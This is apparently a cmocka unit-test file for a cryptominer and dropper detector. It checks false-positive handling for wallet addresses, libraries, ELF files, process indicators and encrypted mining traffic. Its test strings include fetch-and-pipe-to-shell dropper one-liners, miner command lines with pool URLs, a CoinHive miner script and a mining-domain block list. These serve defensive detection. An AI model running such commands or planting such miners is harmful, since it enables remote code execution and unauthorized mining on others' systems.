/* Precision (issue 10): severity from the evidence together, file context,
 * droppers in minified bundles, shared libraries are not static programs,
 * process indicators of ordinary programs. Real third-party content is in
 * tests/realworld/fp_corpus.sh; these are the rules behind it. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <cmocka.h>

#include "core/config.h"
#include "core/event.h"
#include "core/tuning.h"
#include "core/log.h"
#include "detectors/content/content_scan.h"
#include "detectors/content/exe_sections.h"
#include "detectors/content/file_context.h"
#include "detectors/content/script_checks.h"
#include "detectors/indicators/text_indicators.h"
#include "detectors/network/known_proto.h"
#include "detectors/network/netdetect.h"
#include "detectors/process/process_indicators.h"

/* Monero general fund (public; the same one docs quote). */
#define XMR "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
/* The ethers docs' example (EIP-55 checksummed). */
#define ETH "0x8ba1f109551bD432803012645Ac136ddd64DBA72"
#define BTC "1KFzzGtDdnq5hrwxXGjwVnKzRbvf8WVxck"

static enum hh_severity sev_of(const char *text, char *why, size_t n)
{
	struct hh_indicator ind[32];
	size_t k = hh_indicators_scan(text, strlen(text), ind, 32);
	return hh_indicators_assess(ind, k, why, n);
}

static void severity_from_evidence(void **state)
{
	(void)state;
	char why[128];
	/* a wallet alone: context */
	assert_int_equal(sev_of("donations: " XMR, why, sizeof(why)), HH_SEV_LOW);
	assert_string_equal(why, "wallet alone: context");
	assert_int_equal(sev_of("token = \"" ETH "\"", why, sizeof(why)), HH_SEV_LOW);
	assert_int_equal(sev_of("send to " BTC, why, sizeof(why)), HH_SEV_LOW);
	/* web3: "ethash" plus an address is not critical (not even high) */
	assert_int_equal(sev_of("getWork: 'ethash', '" ETH "'", why, sizeof(why)), HH_SEV_MEDIUM);
	/* an algorithm alone: --algo ethash in any program's arguments */
	assert_int_equal(sev_of("./bench --algo ethash", why, sizeof(why)), HH_SEV_LOW);
	assert_string_equal(why, "algorithm name alone: context");
	/* a wallet next to a pool endpoint, miner flags or a miner name: strong */
	assert_int_equal(sev_of("-o stratum+tcp://pool.example:3333 -u " XMR, why, sizeof(why)), HH_SEV_CRITICAL);
	assert_int_equal(sev_of("--donate-level 1 -u " XMR, why, sizeof(why)), HH_SEV_CRITICAL);
	assert_int_equal(sev_of("/usr/bin/xmrig -u " XMR, why, sizeof(why)), HH_SEV_HIGH);
	assert_int_equal(sev_of("stratum+tcp://pool.example:3333", why, sizeof(why)), HH_SEV_HIGH);
	assert_int_equal(sev_of("xmrig --donate-level 1", why, sizeof(why)), HH_SEV_HIGH);
	assert_int_equal(sev_of("xmrig -a rx/0", why, sizeof(why)), HH_SEV_HIGH);
	assert_int_equal(sev_of("xmrig", why, sizeof(why)), HH_SEV_MEDIUM);
	/* a miner name that is also a word: only as a program */
	struct hh_indicator ind[8];
	const char *words[] = { "\"t-rex\": \"\\U0001f996\"", "T-REX\n", "0x1F996 T-REX", "the t-rex's teeth" };
	for (size_t i = 0; i < sizeof(words) / sizeof(words[0]); i++)
		assert_int_equal(hh_indicators_scan(words[i], strlen(words[i]), ind, 8), 0);
	assert_int_equal(sev_of("/opt/t-rex -a ethash -o x", why, sizeof(why)), HH_SEV_HIGH);
}

static void file_contexts(void **state)
{
	(void)state;
	struct hh_file_ctx c;
	static const struct {
		const char *path;
		enum hh_file_context kind;
	} cases[] = {
		{ "/app/node_modules/monero-javascript/README.md", HH_FCTX_WALLET_LIB },
		{ "/srv/README.md", HH_FCTX_DOCS },
		{ "/srv/docs/guide.rst", HH_FCTX_DOCS },
		{ "usr/share/doc/foo/changelog.Debian.gz", HH_FCTX_DOCS },
		{ "/app/node_modules/ethers/dist/ethers.min.js", HH_FCTX_WALLET_LIB },
		{ "/app/node_modules/@ethersproject/address/lib/index.js", HH_FCTX_WALLET_LIB },
		{ "/app/node_modules/web3-eth/lib/index.js", HH_FCTX_WALLET_LIB },
		{ "/usr/lib/python3/dist-packages/eth_account/account.py", HH_FCTX_WALLET_LIB },
		{ "/app/dist/web3.min.js.map", HH_FCTX_SOURCE_MAP },
		{ "/app/lib/checks.d.ts", HH_FCTX_TYPE_DECLS },
		{ "/app/test/wallet_address_validator.js", HH_FCTX_TESTS },
		{ "/app/src/address.spec.ts", HH_FCTX_TESTS },
		/* code is code: a script under docs/, an app's own bundle, a config */
		{ "/srv/docs/js/miner.js", HH_FCTX_NONE },
		{ "/app/dist/app.js", HH_FCTX_NONE },
		{ "/app/node_modules/left-pad/index.js", HH_FCTX_NONE },
		{ "/opt/config.json", HH_FCTX_NONE },
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		hh_file_context(cases[i].path, NULL, 0, &c);
		if (c.kind != cases[i].kind)
			fail_msg("%s: context %d, want %d (%s)", cases[i].path, c.kind, cases[i].kind, c.why);
	}
	const char *list = "# NoCoin\ncnhv.co\t99\ncoin-hive.com\t99\ncoinhive.com\t99\nauthedmine.com\t99\n"
			   "gus.host\t99\nload.jsecoin.com\t99\nppoi.org\t99\nprojectpoi.com\t99\ncrypto-loot.com\t99\n";
	assert_true(hh_text_is_domain_list(list, strlen(list)));
	const char *adblock = "! list\n||a1.example^\n||a2.example^\n||a3.example^\n||a4.example^\n||a5.example^\n"
			      "||a6.example^\n||a7.example^\n||a8.example^\n";
	assert_true(hh_text_is_domain_list(adblock, strlen(adblock)));
	const char *js = "var m = new CoinHive.Anonymous('k');\nm.start();\nconnect('coinhive.com');\n";
	assert_false(hh_text_is_domain_list(js, strlen(js)));
}

static bool list_has(const struct hh_findings *l, const char *rule, enum hh_severity min)
{
	for (size_t i = 0; i < l->n; i++)
		if (!strcmp(l->items[i]->rule, rule) && l->items[i]->severity >= min)
			return true;
	return false;
}

static const char *severity_evidence(const struct hh_finding *f)
{
	size_t i;
	json_t *e;
	json_array_foreach(f->evidence, i, e)
		if (!strcmp(json_string_value(json_object_get(e, "what")), "severity"))
			return json_string_value(json_object_get(e, "value"));
	return NULL;
}

static struct hh_content *content(void)
{
	struct hh_content_opts o;
	hh_content_opts_from_config(&o, NULL);
	char err[256];
	struct hh_content *c = hh_content_new(&o, NULL, 0, err, sizeof(err));
	assert_non_null(c);
	return c;
}

static void scan_one(struct hh_content *c, const char *fs, const void *data, size_t len, struct hh_findings *out)
{
	hh_findings_clear(out);
	hh_content_scan(c, fs, fs, data, len, out, NULL, 0);
}

static void content_precision(void **state)
{
	(void)state;
	struct hh_content *c = content();
	struct hh_findings l = { 0 };
	/* ethers-style bundle: checksummed example addresses, nothing else */
	const char *ethers = "const addr = \"" ETH "\";\nfunction getAddress(a){return a}\n";
	scan_one(c, "/app/public/ethers.min.js", ethers, strlen(ethers), &l);
	assert_true(list_has(&l, "miner.indicators", HH_SEV_LOW));
	assert_false(list_has(&l, "miner.indicators", HH_SEV_MEDIUM));
	assert_string_equal(severity_evidence(l.items[0]), "wallet alone: context");
	/* web3: ethash plus an address, inside the library: low */
	const char *web3 = "getWork(){return this.rpc('ethash', '" ETH "')}";
	scan_one(c, "/app/node_modules/web3/dist/web3.min.js", web3, strlen(web3), &l);
	assert_true(list_has(&l, "miner.indicators", HH_SEV_LOW));
	assert_false(list_has(&l, "miner.indicators", HH_SEV_MEDIUM));
	assert_non_null(strstr(severity_evidence(l.items[0]), "lowered to low: wallet library (web3)"));
	/* a Monero wallet library README with an example address */
	const char *readme = "# monero-javascript\n\nconst wallet = await createWallet({ primaryAddress: \"" XMR "\" });\n";
	scan_one(c, "/app/node_modules/monero-javascript/README.md", readme, strlen(readme), &l);
	assert_false(list_has(&l, "miner.indicators", HH_SEV_MEDIUM));
	scan_one(c, "/srv/README.md", readme, strlen(readme), &l);
	assert_false(list_has(&l, "miner.indicators", HH_SEV_MEDIUM));
	/* a real miner config still counts, outside docs and inside */
	const char *cfg = "{\"pools\":[{\"url\":\"stratum+tcp://pool.example:4444\",\"user\":\"" XMR "\"}],\"donate-level\":1}";
	scan_one(c, "/opt/config.json", cfg, strlen(cfg), &l);
	assert_true(list_has(&l, "miner.config", HH_SEV_CRITICAL));
	scan_one(c, "/opt/docs/config.json", cfg, strlen(cfg), &l);
	assert_true(list_has(&l, "miner.config", HH_SEV_HIGH)); /* config.json under docs/ is not documentation */
	scan_one(c, "/opt/miner/README.md", cfg, strlen(cfg), &l);
	assert_true(list_has(&l, "miner.config", HH_SEV_MEDIUM)); /* lowered two levels, still listed */
	/* a domain list (ndpiCustomCategory.txt) is not a CoinHive script */
	const char *list = "# NoCoin Filter List\ncnhv.co\t99\ncoin-hive.com\t99\ncoinhive.com\t99\nauthedmine.com\t99\n"
			   "gus.host\t99\nload.jsecoin.com\t99\nwebminerpool.com\t99\nppoi.org\t99\nprojectpoi.com\t99\n";
	scan_one(c, "/usr/share/ndpi/ndpiCustomCategory.txt", list, strlen(list), &l);
	assert_true(list_has(&l, "miner.web.coinhive", HH_SEV_LOW));
	assert_false(list_has(&l, "miner.web.coinhive", HH_SEV_MEDIUM));
	assert_false(list_has(&l, "miner.pool-domain", HH_SEV_MEDIUM));
	/* the CoinHive script itself is still high */
	const char *js = "<script>var m=new CoinHive.Anonymous('k');m.start();</script><script src=coinhive.min.js>";
	scan_one(c, "/srv/index.html", js, strlen(js), &l);
	assert_true(list_has(&l, "miner.web.coinhive", HH_SEV_HIGH));
	hh_findings_clear(&l);
	free(l.items);
	hh_content_free(c);
}

static void minified_bundles_are_not_droppers(void **state)
{
	(void)state;
	struct hh_dropper d;
	/* firebase-style: "fetch", a template-literal backtick and an "sh" word on one long line */
	const char *fb = "async function vi(e){let s=await fetch(u,{method:'POST'});if(!s.ok)throw `bad ${s.status}`;"
			 "const sh=e.sh;return sh}function x(){return`a`}var bash=1;";
	assert_false(hh_find_dropper(fb, strlen(fb), &d));
	/* three.js-style: a pipe far from a fetch, then a word that is a shell name */
	char *big = malloc(8192);
	int n = snprintf(big, 8192, "fetch(url).then(r=>r.json());");
	memset(big + n, 'a', 4000);
	snprintf(big + n + 4000, 8192 - (size_t)n - 4000, ";var q=m|sh;");
	assert_false(hh_find_dropper(big, strlen(big), &d));
	free(big);
	/* droppers stay droppers */
	const char *yes[] = {
		"sh -c \"$(curl -fsSL http://x/i.sh)\"",
		"bash <(wget -qO- http://x/i.sh)",
		"bash -c `curl -s http://x/i.sh`",
		"sudo sh -c \"$(/usr/bin/curl -fsSL http://x/i.sh)\"",
		"curl -fsSL http://x/y.sh | sh",
	};
	for (size_t i = 0; i < sizeof(yes) / sizeof(yes[0]); i++)
		if (!hh_find_dropper(yes[i], strlen(yes[i]), &d))
			fail_msg("not a dropper: %s", yes[i]);
}

static void put16(uint8_t *p, uint16_t v) { p[0] = (uint8_t)v; p[1] = (uint8_t)(v >> 8); }
static void put32(uint8_t *p, uint32_t v) { for (int i = 0; i < 4; i++) p[i] = (uint8_t)(v >> (8 * i)); }
static void put64(uint8_t *p, uint64_t v) { for (int i = 0; i < 8; i++) p[i] = (uint8_t)(v >> (8 * i)); }

/* ELF64 of type e_type: one PT_DYNAMIC (DT_SONAME when soname), a random
 * (high-entropy) .text, .shstrtab; stripped, no PT_INTERP. */
static size_t make_elf(uint8_t *b, unsigned e_type, uint64_t entry, bool soname)
{
	const size_t text_len = 16384;
	memset(b, 0, 64 + 56 + 32);
	memcpy(b, "\x7f" "ELF", 4);
	b[4] = 2; b[5] = 1; b[6] = 1;
	put16(b + 16, (uint16_t)e_type); put16(b + 18, 62);
	put64(b + 24, entry);
	put64(b + 32, 64); put16(b + 54, 56); put16(b + 56, 1);
	size_t dyn_off = 64 + 56, text_off = dyn_off + 32;
	uint8_t *ph = b + 64;
	put32(ph, 2); /* PT_DYNAMIC */
	put64(ph + 8, dyn_off);
	put64(ph + 32, 32);
	put64(b + dyn_off, soname ? 14 : 1); /* DT_SONAME or DT_NEEDED */
	put64(b + dyn_off + 8, 1);
	put64(b + dyn_off + 16, 0); /* DT_NULL */
	uint32_t x = 777;
	for (size_t i = 0; i < text_len; i++) {
		x = x * 1103515245u + 12345u;
		b[text_off + i] = (uint8_t)(x >> 16);
	}
	size_t str_off = text_off + text_len;
	const char strtab[] = "\0.text\0.shstrtab\0";
	memcpy(b + str_off, strtab, sizeof(strtab));
	size_t sh_off = (str_off + sizeof(strtab) + 7) & ~(size_t)7;
	put64(b + 40, sh_off); put16(b + 52, 64); put16(b + 58, 64); put16(b + 60, 3); put16(b + 62, 2);
	uint8_t *sh = b + sh_off;
	memset(sh, 0, 3 * 64);
	put32(sh + 64 + 0, 1); put32(sh + 64 + 4, 1); put64(sh + 64 + 8, 6); put64(sh + 64 + 24, text_off); put64(sh + 64 + 32, text_len);
	put32(sh + 128 + 0, 7); put32(sh + 128 + 4, 3); put64(sh + 128 + 24, str_off); put64(sh + 128 + 32, sizeof(strtab));
	return sh_off + 3 * 64;
}

static void shared_libraries_are_not_static(void **state)
{
	(void)state;
	uint8_t *b = calloc(1, 1 << 16);
	struct hh_exe_info x;
	struct hh_content *c = content();
	struct hh_findings l = { 0 };
	/* a stripped .so with a soname */
	size_t n = make_elf(b, 3, 0x1000, true);
	assert_int_equal(hh_exe_parse(b, n, &x), HH_EXE_ELF);
	assert_true(x.shared_lib);
	assert_false(x.is_static);
	assert_true(x.stripped);
	scan_one(c, "/usr/lib/x86_64-linux-gnu/libfoo.so.1", b, n, &l);
	assert_false(list_has(&l, "scan.packed.entropy", HH_SEV_MEDIUM));
	/* no soname, no entry point: still a library */
	n = make_elf(b, 3, 0, false);
	hh_exe_parse(b, n, &x);
	assert_true(x.shared_lib);
	/* a static-pie program (ET_DYN, an entry, no soname, no PT_INTERP) stays static */
	n = make_elf(b, 3, 0x1000, false);
	hh_exe_parse(b, n, &x);
	assert_false(x.shared_lib);
	assert_true(x.is_static);
	scan_one(c, "/usr/bin/x", b, n, &l);
	assert_true(list_has(&l, "scan.packed.entropy", HH_SEV_MEDIUM));
	/* ET_EXEC static */
	n = make_elf(b, 2, 0x401000, false);
	hh_exe_parse(b, n, &x);
	assert_true(x.is_static);
	assert_false(x.shared_lib);
	/* a real library from this system, when readable */
	FILE *fp = fopen("/usr/lib/x86_64-linux-gnu/libz.so.1", "rb");
	if (fp) {
		uint8_t *so = malloc(1 << 20);
		size_t got = fread(so, 1, 1 << 20, fp);
		fclose(fp);
		assert_int_equal(hh_exe_parse(so, got, &x), HH_EXE_ELF);
		assert_true(x.shared_lib);
		assert_false(x.is_static);
		free(so);
	}
	hh_findings_clear(&l);
	free(l.items);
	hh_content_free(c);
	free(b);
}

static struct hh_finding *by_rule(const struct hh_findings *l, const char *rule)
{
	for (size_t i = 0; i < l->n; i++)
		if (!strcmp(l->items[i]->rule, rule))
			return l->items[i];
	return NULL;
}

static void proc_event(struct hh_event *ev, int pid, const char *cmdline, const char *env)
{
	memset(ev, 0, sizeof(*ev));
	ev->type = HH_EV_PROC;
	ev->pid = pid;
	snprintf(ev->comm, sizeof(ev->comm), "node");
	snprintf(ev->exepath, sizeof(ev->exepath), "/usr/local/bin/node");
	snprintf(ev->workload.container_id, sizeof(ev->workload.container_id), "%064d", 7);
	snprintf(ev->cmdline, sizeof(ev->cmdline), "%s", cmdline);
	snprintf(ev->env, sizeof(ev->env), "%s", env);
}

static void agent_process_indicators(void **state)
{
	(void)state;
	struct hh_procind *d = hh_procind_new(64);
	struct hh_findings out = { 0 };
	struct hh_event ev;
	/* an Ethereum token contract in the environment: low context */
	proc_event(&ev, 100, "node server.js", "PATH=/usr/bin USDC_CONTRACT=" ETH " NODE_ENV=production");
	hh_procind_eval(d, &ev, &out);
	struct hh_finding *f = by_rule(&out, "miner.process-indicators");
	assert_non_null(f);
	assert_int_equal(f->severity, HH_SEV_LOW);
	assert_string_equal(severity_evidence(f), "wallet alone: context");
	/* a Bitcoin address in the environment */
	proc_event(&ev, 101, "python3 app.py", "DONATE_BTC=" BTC);
	hh_findings_clear(&out);
	hh_procind_eval(d, &ev, &out);
	assert_int_equal(by_rule(&out, "miner.process-indicators")->severity, HH_SEV_LOW);
	/* --algo ethash alone in a program's arguments */
	proc_event(&ev, 102, "./hashbench --algo ethash --iterations 10", "");
	hh_findings_clear(&out);
	hh_procind_eval(d, &ev, &out);
	f = by_rule(&out, "miner.process-indicators");
	assert_non_null(f);
	assert_true(f->severity < HH_SEV_HIGH);
	/* a miner stays a miner */
	proc_event(&ev, 103, "/tmp/x -o stratum+tcp://pool.example:3333 -u " XMR " --donate-level 1", "");
	hh_findings_clear(&out);
	hh_procind_eval(d, &ev, &out);
	assert_int_equal(by_rule(&out, "miner.process-indicators")->severity, HH_SEV_CRITICAL);
	hh_findings_clear(&out);
	free(out.items);
	hh_procind_free(d);
}


/* ---- network: encrypted-flow behavior ---- */

struct net_sink {
	int n;
	char rule[96];
};

static void net_collect(void *arg, struct hh_finding *f)
{
	struct net_sink *c = arg;
	if (strstr(f->rule, "mining-behavior")) {
		c->n++;
		snprintf(c->rule, sizeof(c->rule), "%s", f->rule);
	}
	hh_finding_free(f);
}

enum framing { F_RANDOM, F_TLS, F_DNP3, F_HISLIP, F_OPENVPN, F_WHATSAPP, F_LOWENTROPY };

static uint32_t rng = 1;
static uint8_t rnd(void)
{
	rng = rng * 1103515245u + 12345u;
	return (uint8_t)(rng >> 16);
}

/* One message of n bytes in the framing; first: the first of its direction. */
static void message(uint8_t *b, size_t n, enum framing fr, int dir, bool first)
{
	for (size_t i = 0; i < n; i++)
		b[i] = fr == F_LOWENTROPY ? (uint8_t)(i % 6) : rnd();
	switch (fr) {
	case F_TLS:
		if (first && dir == 0) { /* a ClientHello record header */
			memcpy(b, "\x16\x03\x01", 3);
			b[5] = 1;
		} else {
			memcpy(b, "\x17\x03\x03", 3);
		}
		b[3] = (uint8_t)((n - 5) >> 8);
		b[4] = (uint8_t)(n - 5);
		break;
	case F_DNP3:
		/* link header, then application data: polling is structured, low entropy */
		for (size_t i = 0; i < n; i++)
			b[i] = (uint8_t)(i % 11);
		b[0] = 0x05, b[1] = 0x64, b[2] = 0x20, b[3] = 0xc4;
		break;
	case F_HISLIP:
		if (first)
			b[0] = 'H', b[1] = 'S', b[2] = 6, b[3] = 0;
		break;
	case F_OPENVPN:
		b[0] = (uint8_t)((n - 2) >> 8);
		b[1] = (uint8_t)(n - 2);
		if (first)
			b[2] = dir == 0 ? 7 << 3 : 8 << 3;
		break;
	case F_WHATSAPP:
		if (first && dir == 0)
			b[0] = 'W', b[1] = 'A', b[2] = 5, b[3] = 2;
		break;
	default:
		break;
	}
}

enum session { S_MINER, S_FAST_MINER, S_EVENTS };

/* A 300 s session in the framing. S_MINER: the pool pushes a job every 5 s,
 * the client submits every 10 s and the server answers; S_FAST_MINER: the
 * same jobs, but the client submits about every 0.8 s (a low share
 * difficulty), so nearly every job lands within a second of a submit; S_EVENTS: the client speaks once and
 * the server only pushes (server-sent events). Returns mining-behavior
 * findings. */
static int run_session(enum framing fr, enum session kind, char *rule)
{
	struct hh_netdetect_opts o;
	hh_netdetect_opts_load(&o, NULL);
	struct net_sink c = { 0 };
	struct hh_netdetect *d = hh_netdetect_new(&o, NULL, "pcap", net_collect, &c);
	assert_non_null(d);
	struct hh_net_flow_key k = { .family = 4, .proto = 6, .cip = { 10, 0, 0, 2 }, .sip = { 203, 0, 113, 9 },
				     .cport = 40000, .sport = 8443 };
	struct hh_net_flow *f = hh_netdetect_flow_new(d, &k, 0);
	assert_non_null(f);
	uint8_t b[600];
	bool first[2] = { true, true };
#define SEND(dir, n, t)                                                        \
	do {                                                                   \
		message(b, n, fr, dir, first[dir]);                            \
		first[dir] = false;                                            \
		hh_netdetect_packet(d, f, dir, t, (uint32_t)(n) + 54, (uint32_t)(n)); \
		hh_netdetect_stream(d, f, dir, b, n, false, t);                 \
	} while (0)
	SEND(0, 300, 0.0);
	SEND(1, 400, 0.1);
	if (kind == S_FAST_MINER) {
		/* one gap in ten over a second: two jobs in 300 s land clear of a submit */
		static const double gaps[] = { 0.9, 0.6, 0.8, 0.7, 0.9, 0.5, 0.8, 0.6, 0.9, 1.45 };
		double next_submit = 0.3, next_job = 5.0;
		for (int k = 0; next_submit < 300 || next_job < 300;) {
			if (next_job <= next_submit) {
				SEND(1, 220, next_job); /* a new job */
				next_job += 5.0;
			} else {
				SEND(0, 160, next_submit);       /* a share */
				SEND(1, 80, next_submit + 0.02); /* accepted */
				next_submit += gaps[k++ % 10];
			}
		}
	}
	for (int i = 1; i <= 60 && kind != S_FAST_MINER; i++) {
		double t = i * 5.0;
		SEND(1, 220, t); /* a new job, unprompted */
		if (kind == S_MINER && i % 2 == 0) {
			SEND(0, 160, t + 2.0); /* a share */
			SEND(1, 80, t + 2.1);  /* accepted */
		} else if (kind == S_EVENTS && i % 10 == 0) {
			SEND(0, 40, t + 0.3); /* a window update: not answered */
		}
	}
#undef SEND
	hh_netdetect_flow_end(d, f);
	hh_netdetect_free(d);
	if (rule)
		snprintf(rule, 96, "%s", c.rule);
	return c.n;
}

static void encrypted_flow_behavior(void **state)
{
	(void)state;
	char rule[96];
	/* the miner over encrypted framing, and over TLS: found */
	assert_int_equal(run_session(F_RANDOM, S_MINER, rule), 1);
	assert_string_equal(rule, "net.encrypted-mining-behavior");
	assert_int_equal(run_session(F_TLS, S_MINER, rule), 1);
	assert_string_equal(rule, "net.tls-mining-behavior");
	/* a miner submitting about every 0.8 s: its jobs are told from answers by size */
	assert_int_equal(run_session(F_TLS, S_FAST_MINER, rule), 1);
	assert_string_equal(rule, "net.tls-mining-behavior");
	assert_int_equal(run_session(F_RANDOM, S_FAST_MINER, rule), 1);
	/* the same timing in plaintext or recognised protocols: not encrypted mining */
	assert_int_equal(run_session(F_DNP3, S_MINER, NULL), 0);
	assert_int_equal(run_session(F_HISLIP, S_MINER, NULL), 0);
	assert_int_equal(run_session(F_OPENVPN, S_MINER, NULL), 0);
	assert_int_equal(run_session(F_WHATSAPP, S_MINER, NULL), 0);
	assert_int_equal(run_session(F_LOWENTROPY, S_MINER, NULL), 0);
	assert_int_equal(run_session(F_DNP3, S_FAST_MINER, NULL), 0);
	/* a server-sent-events style stream: pushes nobody asked for, unanswered client bursts */
	assert_int_equal(run_session(F_TLS, S_EVENTS, NULL), 0);
	assert_int_equal(run_session(F_RANDOM, S_EVENTS, NULL), 0);
	/* the recogniser and the entropy test on their own */
	assert_string_equal(hh_known_binary_protocol((const uint8_t *)"\x05\x64\x05\xc0\x01\x00\x00\x04\xe9\x21", 10), "dnp3");
	assert_null(hh_known_binary_protocol((const uint8_t *)"\x16\x03\x01\x00\x40", 5));
	uint8_t r[1024];
	for (size_t i = 0; i < sizeof(r); i++)
		r[i] = rnd();
	assert_true(hh_payload_looks_encrypted(hh_payload_entropy(r, sizeof(r)), sizeof(r)));
	const char *json = "{\"id\":4,\"jsonrpc\":\"2.0\",\"method\":\"submit\",\"params\":{\"id\":\"1\",\"job_id\":\"7\",\"nonce\":\"0a0b0c0d\",\"result\":\"00ff00ff00ff00ff00ff\"}}";
	assert_false(hh_payload_looks_encrypted(hh_payload_entropy((const uint8_t *)json, strlen(json)), strlen(json)));
}

/* ---- tuning: parsing and matching ---- */

static void write_file(const char *path, const char *text)
{
	FILE *fp = fopen(path, "w");
	assert_non_null(fp);
	fputs(text, fp);
	fclose(fp);
}

static int tuning_from_yaml(const char *yaml, struct hh_config *cfg, struct hh_tuning **t, char *err, size_t n)
{
	char path[] = "/tmp/hh-test-tuning-XXXXXX";
	int fd = mkstemp(path);
	assert_true(fd >= 0);
	close(fd);
	write_file(path, yaml);
	int rc = hh_config_load(cfg, path, err, n);
	unlink(path);
	*t = NULL;
	if (rc != 0) /* the configuration check caught it first */
		return -1;
	*t = hh_tuning_new(cfg, "2026-12-05", err, n);
	return *t ? 0 : -1;
}

static struct hh_finding *finding(const char *rule, const char *path)
{
	struct hh_finding *f = hh_finding_new("scan", rule, "t", HH_SEV_HIGH, 0.5);
	if (path)
		hh_finding_set_str(f, "file.path", path);
	return f;
}

static void tuning_model(void **state)
{
	(void)state;
	char err[512];
	struct hh_config cfg;
	struct hh_tuning *t;
	/* malformed exceptions: an error naming the entry */
	static const struct {
		const char *yaml, *want;
	} bad[] = {
		{ "exceptions:\n  - rule: x\n", "exceptions[0] (x): 'reason' is required" },
		{ "exceptions:\n  - reason: y\n", "exceptions[0]: 'rule' is required" },
		{ "exceptions:\n  - { rule: x, reason: y, expires: tomorrow }\n", "'expires' must be a date" },
		{ "exceptions:\n  - { rule: x, reason: y, namespce: a }\n", "unknown key 'namespce'" },
		{ "exceptions: {rule: x}\n", "exceptions" },
	};
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		assert_int_equal(tuning_from_yaml(bad[i].yaml, &cfg, &t, err, sizeof(err)), -1);
		if (!strstr(err, bad[i].want))
			fail_msg("'%s': error '%s', want '%s'", bad[i].yaml, err, bad[i].want);
		hh_config_free(&cfg);
	}
	/* rules.disabled globs, per-namespace overrides, exceptions by fields, path, expiry */
	assert_int_equal(tuning_from_yaml("rules: { disabled: [\"net.*\"] }\n"
					  "overrides:\n  - match: { namespace: lab }\n    set: { rules.disabled: [behavior.cpu-plateau] }\n"
					  "exceptions:\n"
					  "  - { rule: escape.runtime-socket, fields: { proc.name: inventory }, reason: r1 }\n"
					  "  - { rule: \"miner.*\", path: \"node_modules/my-wallet*\", reason: r2, expires: 2027-01-01 }\n"
					  "  - { rule: miner.config, reason: old, expires: 2026-01-01 }\n",
					  &cfg, &t, err, sizeof(err)), 0);
	assert_int_equal(hh_tuning_stats(t)->expired, 1);
	const char *why = NULL;
	struct hh_finding *f = finding("net.stratum.v1", NULL);
	assert_true(hh_tuning_suppressed(t, NULL, f, &why));
	assert_string_equal(why, "rules.disabled");
	hh_finding_free(f);
	struct hh_workload lab = { 0 }, prod = { 0 };
	hh_strlcpy(lab.pod_namespace, "lab", sizeof(lab.pod_namespace));
	hh_strlcpy(prod.pod_namespace, "prod", sizeof(prod.pod_namespace));
	f = finding("behavior.cpu-plateau", NULL);
	assert_true(hh_tuning_suppressed(t, &lab, f, NULL));
	assert_false(hh_tuning_suppressed(t, &prod, f, NULL));
	hh_finding_free(f);
	f = finding("escape.runtime-socket", NULL);
	hh_finding_set_str(f, "proc.name", "inventory");
	assert_true(hh_tuning_suppressed(t, NULL, f, &why));
	assert_string_equal(why, "exception: r1");
	hh_finding_set_str(f, "proc.name", "curl");
	assert_false(hh_tuning_suppressed(t, NULL, f, NULL));
	hh_finding_free(f);
	f = finding("miner.indicators", "layer-3f2a/app/node_modules/my-wallet/x.js");
	assert_true(hh_tuning_suppressed(t, NULL, f, NULL));
	hh_finding_free(f);
	f = finding("miner.indicators", "app/lib/my-wallet/x.js");
	assert_false(hh_tuning_suppressed(t, NULL, f, NULL));
	hh_finding_free(f);
	f = finding("miner.config", "etc/xmrig.json"); /* its exception expired */
	assert_false(hh_tuning_suppressed(t, NULL, f, NULL));
	hh_finding_free(f);
	/* an ignore file: entries, an expired one, errors naming FILE:LINE */
	char path[] = "/tmp/hh-test-ignore-XXXXXX";
	int fd = mkstemp(path);
	close(fd);
	write_file(path, "# comment\n\nminer.config  etc/*  exp:2027-01-01  reviewed config\n"
			 "scan.packed.entropy  *  vendor blobs\nminer.indicators  a/*  exp:2020-01-01  gone\n");
	assert_int_equal(hh_tuning_load_ignore_file(t, path, err, sizeof(err)), 2);
	assert_int_equal(hh_tuning_stats(t)->expired, 2);
	f = finding("miner.config", "etc/xmrig.json");
	assert_true(hh_tuning_suppressed(t, NULL, f, &why));
	assert_non_null(strstr(why, ":3: reviewed config"));
	hh_finding_free(f);
	f = finding("scan.packed.entropy", "usr/lib/x.so");
	assert_true(hh_tuning_suppressed(t, NULL, f, NULL));
	hh_finding_free(f);
	write_file(path, "miner.config etc/*\n");
	assert_int_equal(hh_tuning_load_ignore_file(t, path, err, sizeof(err)), -1);
	assert_non_null(strstr(err, ":1: expected"));
	write_file(path, "miner.config etc/* exp:2027-13-01 why\n");
	assert_int_equal(hh_tuning_load_ignore_file(t, path, err, sizeof(err)), -1);
	assert_non_null(strstr(err, ":1: exp:2027-13-01 is not a date"));
	unlink(path);
	assert_int_equal(hh_tuning_load_ignore_file(t, "/nonexistent/.hashhoundignore", err, sizeof(err)), -1);
	assert_non_null(strstr(err, "/nonexistent/.hashhoundignore"));
	hh_tuning_free(t);
	hh_config_free(&cfg);
}

int main(void)
{
	hh_log_set_level(HH_LOG_ERROR);
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(severity_from_evidence),
		cmocka_unit_test(file_contexts),
		cmocka_unit_test(content_precision),
		cmocka_unit_test(minified_bundles_are_not_droppers),
		cmocka_unit_test(shared_libraries_are_not_static),
		cmocka_unit_test(agent_process_indicators),
		cmocka_unit_test(encrypted_flow_behavior),
		cmocka_unit_test(tuning_model),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
